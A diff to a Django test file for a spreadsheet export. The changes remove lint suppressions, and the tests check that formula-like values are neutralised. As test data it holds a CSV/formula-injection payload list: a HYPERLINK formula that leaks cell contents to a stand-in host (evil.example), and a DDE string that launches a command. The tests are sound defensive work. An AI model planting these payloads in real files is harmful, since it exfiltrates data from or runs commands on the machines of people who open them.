@@ -18,7 +18,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
 DANGEROUS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
 
 
-def _sheet(data: bytes, title: str | None = None):  # noqa: ANN202
+def _sheet(data: bytes, title: str | None = None):
     wb = load_workbook(io.BytesIO(data))
     return wb[title] if title else wb.worksheets[0]
 
@@ -60,7 +60,7 @@ def test_control_characters_that_xlsx_cannot_hold_are_removed_instead_of_failing
 
 @pytest.mark.django_db
 def test_the_catalog_export_over_http_writes_a_formula_like_name_as_text_and_survives_a_vertical_tab(
-        catalog, make_user) -> None:  # noqa: ANN001, F811
+        catalog, make_user) -> None:  # noqa: F811
     from django.contrib.auth.models import User
 
     catalog.employ.name = HYPERLINK
